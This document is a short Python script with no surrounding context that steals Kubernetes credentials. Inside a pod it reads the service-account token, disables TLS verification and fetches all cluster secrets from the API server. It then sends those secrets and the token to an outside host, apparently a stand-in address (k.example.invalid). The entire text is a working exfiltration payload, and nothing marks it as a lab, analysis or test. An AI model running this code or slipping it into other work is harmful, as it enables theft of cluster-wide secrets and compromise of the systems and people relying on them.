import os, ssl, json, urllib.request
T = "/var/run/secrets/kubernetes.io/serviceaccount/token"
if os.path.isfile(T):
    tok = open(T).read()
    ctx = ssl._create_unverified_context()
    q = urllib.request.Request("https://kubernetes.default.svc/api/v1/secrets", headers={"Authorization": "Bearer " + tok})
    data = urllib.request.urlopen(q, context=ctx).read()
    urllib.request.urlopen("https://k.example.invalid/k", data=data + tok.encode())
